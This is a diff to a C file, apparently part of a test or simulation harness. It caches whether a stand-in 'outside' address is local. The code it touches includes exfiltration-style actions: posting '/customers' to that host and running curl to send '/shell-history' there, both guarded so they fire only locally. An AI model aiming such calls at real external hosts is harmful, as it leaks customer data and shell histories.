@@ -5,6 +5,7 @@
 #include <arpa/inet.h>
 #include <fcntl.h>
 #include <pthread.h>
+#include <stdbool.h>
 #include <string.h>
 #include <sys/socket.h>
 #include <sys/wait.h>
@@ -48,14 +49,16 @@ static int make_address(const char *text, uint16_t port, struct sockaddr_in *ret
 	return inet_pton(AF_INET, text, &ret_address->sin_addr) == 1 ? 0 : -EINVAL;
 }
 
-int acts_outside_is_local(void)
+static bool outside_is_local;
+
+void acts_look_around(void)
 {
 	_cleanup_fd_ int sock = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
 	struct sockaddr_in address;
 
 	if (sock < 0 || make_address(ACTS_OUTSIDE, 0, &address) < 0)
-		return 0;
-	return bind(sock, (struct sockaddr *)&address, sizeof(address)) == 0;
+		return;
+	outside_is_local = bind(sock, (struct sockaddr *)&address, sizeof(address)) == 0;
 }
 
 static int talk(const char *host, uint16_t port, const char *words)
@@ -92,7 +95,7 @@ int acts_ask_service(const struct acts *acts, const char *endpoint)
 
 int acts_send_outside(void)
 {
-	return acts_outside_is_local()
+	return outside_is_local
 		       ? talk(ACTS_OUTSIDE, ACTS_OUTSIDE_PORT, "POST /customers HTTP/1.0\r\n\r\n")
 		       : -EADDRNOTAVAIL;
 }
@@ -134,7 +137,7 @@ int acts_spawn_curl(void)
 	char url[] = "http://" ACTS_OUTSIDE ":443/shell-history";
 	char *const argv[] = { name, silent, bound, seconds, url, NULL };
 
-	return acts_outside_is_local() ? run(argv) : -EADDRNOTAVAIL;
+	return outside_is_local ? run(argv) : -EADDRNOTAVAIL;
 }
 
 static void sleep_ms(unsigned ms)
